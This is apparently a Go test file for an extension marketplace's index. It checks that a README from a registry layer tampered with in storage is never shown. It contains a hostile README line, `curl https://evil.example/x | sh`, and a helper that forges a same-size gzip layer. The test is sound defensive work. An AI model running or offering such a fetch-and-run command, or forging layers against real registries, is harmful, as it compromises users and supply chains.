package index_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/connectsoft/marketplace/artifact"
	"github.com/connectsoft/marketplace/index"
	"github.com/connectsoft/marketplace/index/store"
	"github.com/connectsoft/marketplace/index/store/storetest"
	"github.com/connectsoft/marketplace/remote"
	"github.com/connectsoft/marketplace/testenv"
	"github.com/connectsoft/marketplace/testenv/fixture"
)

// TestReadmeOfAnAlteredLayerIsNotShown is the attack of whoever can write
// a registry's storage: the layer of a signed extension, over 4 MiB (the
// ingester reads such a layer only as far as its extension.yaml), is
// replaced on disk by one of the same size whose README tells users to
// run something else. CNCF distribution serves the stored bytes as they
// are. The index must not show that README; an extension of the same
// size whose layer is intact shows its own.
func TestReadmeOfAnAlteredLayerIsNotShown(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	reg := startRegistry(t, testenv.DistributionOptions{RootDir: root})
	pub := fixture.NewPublisher(t, reg)
	payload := make([]byte, 5<<20) // incompressible: the layer stays over 4 MiB
	rand.Read(payload)
	publish := func(name string) (string, *artifact.Artifact) {
		ref := pub.Publish("pub", fixture.Ext{Name: name, Version: "1.0.0",
			Files: map[string]string{"README.md": "# The real README of " + name + "\n", "assets/data.bin": string(payload)}})
		repo, err := artifact.NewRepository(ref, pub.Remote)
		if err != nil {
			t.Fatal(err)
		}
		a, err := artifact.Fetch(ctx, repo, ref[strings.LastIndex(ref, "@")+1:])
		if err != nil {
			t.Fatal(err)
		}
		if a.Layer().Size <= 4<<20 {
			t.Fatalf("%s's layer is %d bytes: the test needs one the ingester does not read to its end", name, a.Layer().Size)
		}
		return ref, a
	}
	intactRef, intact := publish("acme/intact")
	victimRef, victim := publish("acme/victim")

	// The altered layer: the same entries, the README replaced, gzip's
	// header padded so that the blob keeps its size.
	data := filepath.Join(root, "docker/registry/v2/blobs/sha256", victim.Layer().Digest.Encoded()[:2], victim.Layer().Digest.Encoded(), "data")
	orig, err := os.ReadFile(data)
	if err != nil {
		t.Fatal(err)
	}
	const evil = "# Install\n\nFirst run `curl https://evil.example/x | sh`.\n"
	forged := alteredLayer(t, orig, map[string]string{"README.md": evil})
	if err := os.WriteFile(data, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	// What the registry now serves is the forged layer.
	repo, err := artifact.NewRepository(victimRef, pub.Remote)
	if err != nil {
		t.Fatal(err)
	}
	rc, err := repo.Fetch(ctx, victim.Layer())
	if err != nil {
		t.Fatal(err)
	}
	served, err := io.ReadAll(rc)
	rc.Close()
	if err != nil || !bytes.Equal(served, forged) {
		t.Fatalf("the registry does not serve the altered layer (%d bytes, %v): the test alters nothing", len(served), err)
	}
	if _, err := artifact.FetchReadme(ctx, repo, victim, artifact.ReadmeOptions{}); !errors.Is(err, artifact.ErrDigestMismatch) {
		t.Fatalf("FetchReadme of the altered layer: %v, want a digest mismatch", err)
	}

	st := storetest.SQLite(t)
	src := &index.Source{Name: "public", Registry: reg.Host, PlainHTTP: true, Repositories: []string{"pub/**"}, Tenant: "acme", Visibility: store.Public}
	ing := &index.Ingester{Store: st, Remote: func(*index.Source) remote.Options { return pub.Remote }}
	for _, ref := range []string{intactRef, victimRef} {
		repoName, digest, _ := strings.Cut(strings.TrimPrefix(ref, reg.Host+"/"), "@")
		if _, err := ing.Ingest(ctx, src, repoName, digest); err != nil {
			t.Fatalf("ingest %s: %v", ref, err)
		}
	}
	rs := st.(store.ReadmeStore)
	got, err := rs.Readme(ctx, intact.Descriptor.Digest.String())
	if err != nil || !got.Found || !strings.Contains(string(got.Text), "The real README of acme/intact") {
		t.Fatalf("the intact extension's README: %+v, %v", got, err)
	}
	if got, err := rs.Readme(ctx, victim.Descriptor.Digest.String()); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("the altered layer's README was recorded: %+v, %v", got, err)
	}
}

// alteredLayer rewrites the tar+gzip layer orig with the files replaced,
// then pads gzip's header (its extra field, which readers skip) so that
// the result has orig's size, as a blob swapped in storage must.
func alteredLayer(t *testing.T, orig []byte, replace map[string]string) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(orig))
	if err != nil {
		t.Fatal(err)
	}
	var tarred bytes.Buffer
	tr, tw := tar.NewReader(zr), tar.NewWriter(&tarred)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if r, ok := replace[hdr.Name]; ok {
			body = []byte(r)
			hdr.Size = int64(len(body))
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		tw.Write(body)
	}
	tw.Close()
	compress := func(extra []byte) []byte {
		var out bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
		zw.Extra = extra
		zw.Write(tarred.Bytes())
		zw.Close()
		return out.Bytes()
	}
	// An extra field of n bytes adds n+2 (its length) once the header
	// has one.
	base := len(compress([]byte{}))
	pad := len(orig) - base
	if pad < 0 || pad > 0xffff {
		t.Fatalf("the altered layer is %d bytes against %d: cannot pad it to size", base, len(orig))
	}
	out := compress(make([]byte, pad))
	if len(out) != len(orig) {
		t.Fatalf("the altered layer is %d bytes, want %d", len(out), len(orig))
	}
	return out
}
